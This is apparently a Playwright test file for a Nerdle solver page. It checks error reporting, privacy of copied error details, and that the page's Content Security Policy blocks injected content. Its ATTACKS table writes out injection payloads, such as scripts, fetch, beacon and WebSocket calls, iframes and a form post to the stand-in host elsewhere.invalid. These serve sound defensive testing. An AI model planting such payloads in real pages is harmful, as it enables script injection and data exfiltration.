"""Errors of all kinds are reported, and only the site's own files are loaded."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Locator, Route, expect

from nerdle import analyse, parse
from tests.support.browser.pages import OpenPage, ServedSite
from tests.support.page.journeys import ONE_ROW
from tests.support.page.player import Player, eventually, sit_down
from tests.support.page.trouble import before_the_page

# ------------------------------------------------------------------------------ errors of all kinds


def trouble(player: Player) -> Locator:
    return player.page.get_by_role("region", name="Error")


def fail_at_the_next_question(player: Player) -> None:
    """Makes Python fail, with a question that is not a text."""
    player.page.evaluate(
        """() => {
          const { postMessage } = Worker.prototype;
          Worker.prototype.postMessage = function (asked) {
            Worker.prototype.postMessage = postMessage;
            this.postMessage({ ...asked, question: 1 });
          };
        }"""
    )


def test_a_python_error_is_reported_and_the_page_still_works(open_warm: OpenPage) -> None:
    player = sit_down(open_warm, ONE_ROW)
    player.wait_for_answer()
    fail_at_the_next_question(player)
    player.recolour(0, 0)
    player.sees("The solver could not answer (TypeError: ")
    player.sees("Your game is safe")
    player.sees("Not counted")
    expect(trouble(player)).not_to_contain_text("Traceback")
    player.tap(0, 0)
    player.tap(0, 0)
    assert player.position == ONE_ROW
    assert player.remaining == analyse(parse(ONE_ROW)).remaining
    expect(trouble(player)).to_be_hidden()
    fail_at_the_next_question(player)
    player.tap(0, 0)
    player.press(player.button("Try again"))
    assert player.remaining == analyse(parse(player.position)).remaining
    expect(trouble(player)).to_be_hidden()


def test_an_error_while_judging_a_guess_is_reported(open_warm: OpenPage) -> None:
    player = sit_down(open_warm, ONE_ROW)
    # a better analysis would ask about the guess again, and then offer colours
    player.wait_until_idle()
    player.type("11+79=9")
    fail_at_the_next_question(player)
    player.type("0")
    player.sees("The solver could not answer")
    player.press(player.button("Close"))
    expect(trouble(player)).to_be_hidden()
    player.enter()
    assert player.rows() == [ONE_ROW.split(",")[1], "11+79=90:bbbbbbbb"]


THROWN = {
    "an error": "setTimeout(() => { throw new Error('very odd') })",
    "a text": "setTimeout(() => { throw 'very odd' })",
    "a promise": "void Promise.reject(new TypeError('very odd'))",
    "a promise with another object": "void Promise.reject({ toString: () => 'very odd' })",
}


@pytest.mark.parametrize("thrown", THROWN)
def test_an_error_of_the_page_is_reported_with_details_to_copy(
    thrown: str, open_page: OpenPage, site: ServedSite
) -> None:
    page = before_the_page(open_page, "very odd|Object")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.goto(f"{site.url}#{ONE_ROW}")
    player = Player(page)
    player.wait_until_ready()
    page.evaluate(THROWN[thrown])
    alert = page.get_by_role("alert").filter(has_text="Something went wrong on this page")
    expect(alert).to_contain_text("very odd")
    expect(alert).to_contain_text("Your game is safe")
    player.press(player.button("Copy details"))
    expect(player.button("Copied")).to_be_visible()
    copied = page.evaluate("navigator.clipboard.readText()")
    agent = page.evaluate("navigator.userAgent")
    for part in ("very odd", f"position: {ONE_ROW}", agent, "Pyodide 314", "page: last modified"):
        assert part in copied
    if "Error" in THROWN[thrown]:
        assert re.search(r"very odd\n +at ", copied), "the stack is missing"
    player.press(player.button("Close"))
    expect(trouble(player)).to_be_hidden()
    assert player.rows() == ONE_ROW.split(",")[1:]


def test_details_contain_the_traceback_but_no_personal_data(
    open_page: OpenPage, site: ServedSite
) -> None:
    page = before_the_page(open_page)
    page.evaluate("document.cookie = 'who=me'; localStorage.setItem('who', 'me too')")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.goto(f"{site.url}?who=am-I#{ONE_ROW}")
    player = Player(page)
    player.wait_until_ready()
    fail_at_the_next_question(player)
    player.recolour(0, 0)
    player.press(player.button("Copy details"))
    expect(player.button("Copied")).to_be_visible()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "Traceback (most recent call last)" in copied
    assert f"position: {player.position}" in copied
    assert "who" not in copied


def test_details_can_be_selected_if_copying_is_forbidden(
    open_page: OpenPage, site: ServedSite
) -> None:
    page = before_the_page(open_page, "very odd")
    page.add_init_script("delete Navigator.prototype.clipboard")
    page.goto(f"{site.url}#{ONE_ROW}")
    player = Player(page)
    page.evaluate(THROWN["an error"])
    player.press(player.button("Copy details"))
    expect(player.button("Selected, ready to copy")).to_be_visible()
    details = page.get_by_role("textbox", name="Details")
    expect(details).to_be_focused()
    shown = details.input_value()
    assert "very odd" in shown
    assert page.evaluate("getSelection().toString()") == shown


def test_a_thousand_errors_do_not_flood_the_page(open_page: OpenPage, site: ServedSite) -> None:
    page = before_the_page(open_page, "odd")
    page.goto(f"{site.url}#{ONE_ROW}")
    player = Player(page)
    page.evaluate("for (let n = 0; n < 1000; n += 1) setTimeout(() => { throw `odd ${n}.` })")
    player.sees("odd 999.")
    page.evaluate("delete Navigator.prototype.clipboard")
    player.press(player.button("Copy details"))
    shown = page.get_by_role("textbox", name="Details").input_value()
    assert "odd 999." in shown
    assert "odd 9." not in shown
    player.press(player.button("Close"))
    expect(trouble(player)).to_be_hidden()


@pytest.mark.parametrize("size", [(320, 568), (390, 844)])
def test_errors_are_on_the_first_screen_with_large_enough_buttons(
    size: tuple[int, int], open_page: OpenPage, site: ServedSite
) -> None:
    page = before_the_page(open_page, "very odd")
    page.set_viewport_size({"width": size[0], "height": size[1]})
    page.goto(f"{site.url}#{ONE_ROW}")
    page.evaluate(THROWN["an error"])
    player = Player(page)
    for name in ("Reload", "Copy details", "Close"):
        expect(player.button(name)).to_be_in_viewport(ratio=1)
        box = player.button(name).bounding_box()
        assert box is not None
        assert box["height"] >= 44
        assert box["x"] + box["width"] <= size[0]


# ------------------------------------------------------------------------ only the site's own files


def test_a_visit_requests_only_the_sites_own_files_and_then_nothing(
    open_page: OpenPage, site: ServedSite
) -> None:
    page = before_the_page(open_page)
    asked: list[str] = []
    statuses: list[int] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("response", lambda response: statuses.append(response.status))
    page.goto(site.url)
    player = Player(page)
    player.wait_until_ready()
    assert len(asked) > 5
    assert all(url.startswith(site.url) for url in asked), asked
    assert set(statuses) == {200}
    asked.clear()
    player.play("54-36=18", "bbgbbggb")
    assert player.remaining == analyse(parse(ONE_ROW)).remaining
    player.choose_game("Mini")
    player.turn("colour-blind")
    assert player.suggestion
    assert [url for url in asked if "/icons/" not in url] == []


def without_headers_policy(route: Route) -> None:
    """Answers like a server that cannot send a policy, so only the page's own policy applies."""
    response = route.fetch()
    headers = {
        name: value
        for name, value in response.headers.items()
        if name.lower() != "content-security-policy"
    }
    route.fulfill(response=response, headers=headers)


# What an attacker might get into the page. Nothing of it may run, load or be sent.
ATTACKS = {
    "script-src-elem": """
      const script = document.createElement("script");
      script.textContent = "document.title = 'not ours'";
      document.body.append(script);""",
    "script-src-elem: elsewhere": """
      const script = document.createElement("script");
      script.src = "https://elsewhere.invalid/script.js";
      document.body.append(script);""",
    "script-src-elem: data": "import('data:text/javascript,document.title=1').catch(() => {})",
    "script-src-attr": """
      document.body.setAttribute("onclick", "document.title = 'not ours'");
      document.body.click();""",
    "script-src": "setTimeout('document.title = `not ours`')",
    "connect-src": "fetch('https://elsewhere.invalid/').catch(() => {})",
    "connect-src: beacon": "navigator.sendBeacon('https://elsewhere.invalid/', 'x')",
    "connect-src: socket": "try { new WebSocket('wss://elsewhere.invalid/') } catch {}",
    "style-src-elem": """
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.head.append(style);""",
    "style-src-elem: elsewhere": """
      document.head.append(Object.assign(document.createElement("link"),
        { rel: "stylesheet", href: "https://elsewhere.invalid/style.css" }));""",
    "style-src-attr": "document.body.setAttribute('style', 'display: none')",
    "img-src": "new Image().src = 'https://elsewhere.invalid/pixel.png'",
    "img-src: data": "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='",
    "worker-src": """
      try { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))) } catch {}""",
    "frame-src": """
      document.body.append(Object.assign(document.createElement("iframe"),
        { src: "https://elsewhere.invalid/" }));""",
    "object-src": """
      document.body.append(Object.assign(document.createElement("object"),
        { data: "https://elsewhere.invalid/" }));""",
    "font-src": """
      new FontFace("x", "url(https://elsewhere.invalid/font.woff2)").load().catch(() => {})""",
    "base-uri": """
      document.head.prepend(Object.assign(document.createElement("base"),
        { href: "https://elsewhere.invalid/" }));""",
    "form-action": """
      const form = document.createElement("form");
      form.action = "https://elsewhere.invalid/";
      document.body.append(form);
      form.submit();""",
}

LISTEN = """() => {
  window.blocked = [];
  document.addEventListener("securitypolicyviolation",
    ({ effectiveDirective }) => blocked.push(effectiveDirective));
}"""


def test_the_pages_own_policy_blocks_attacks(open_page: OpenPage, site: ServedSite) -> None:
    page = before_the_page(open_page, "Content Security Policy|violates|elsewhere.invalid")
    failures: list[str | None] = []
    page.on("requestfailed", lambda request: failures.append(request.failure))
    page.context.route(re.compile(r"/nerdle/$"), without_headers_policy)
    page.goto(site.url)
    Player(page).wait_until_ready()
    page.evaluate(LISTEN)
    for attack, script in ATTACKS.items():
        page.evaluate(f"() => {{ {script} }}")
        eventually(lambda: page.evaluate("blocked.splice(0)"), [attack.partition(":")[0]])
        assert page.title() != "not ours", attack
        assert "elsewhere" not in page.evaluate("document.baseURI"), attack
    assert set(failures) <= {"csp", "net::ERR_BLOCKED_BY_CSP"}


def test_a_game_stores_only_the_boards_and_no_cookie(open_page: OpenPage) -> None:
    player = sit_down(open_page)
    player.play("54-36=18", "bbgbbggb")
    player.use_suggestion()
    player.enter()
    assert player.page.context.cookies() == []
    assert player.page.evaluate("document.cookie") == ""
    assert player.page.evaluate("[Object.keys(localStorage), sessionStorage.length]") == [
        ["nerdle"],
        0,
    ]
    assert player.page.evaluate("indexedDB.databases()") == []
